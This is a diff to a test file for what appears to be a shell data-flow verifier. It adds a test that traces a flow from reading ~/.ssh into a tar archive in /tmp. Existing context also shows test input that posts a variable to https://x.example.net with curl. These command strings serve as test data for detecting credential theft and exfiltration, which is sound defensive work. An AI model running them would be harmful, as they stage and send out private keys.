@@ -9,7 +9,7 @@ import pytest
 
 from verifier.capability import Capability
 from verifier.extract.facts import DataFlow, Parsed, Step
-from verifier.extract.shell import analyse_shell, extract_shell
+from verifier.extract.shell import analyse_shell, extract_shell, judge_argv
 from verifier.model import Evidence, Location
 
 FILES = frozenset({"scripts/sync.sh"})
@@ -189,3 +189,9 @@ def test_long_chains_are_traced_and_diamonds_do_not_multiply() -> None:
         f'Y{i}="$X{i - 1}"\nZ{i}="$X{i - 1}"\nX{i}="$Y{i}$Z{i}"\n' for i in range(1, 80))
     analysis = analyse_shell(diamond + 'curl -d "$X79" https://x.example.net\n', FILES, "x.sh")
     assert len(analysis.flows) == 1
+
+
+def test_an_argv_list_has_the_flows_of_its_one_command() -> None:
+    analysis = judge_argv(["tar", "czf", "/tmp/k.tgz", "~/.ssh"], FILES, "scripts/sync.py")
+    assert [(str(f.source.capability), str(f.sink.capability)) for f in analysis.flows] == [
+        ("fs.read(~/.ssh)", "fs.write(/tmp/k.tgz)")]
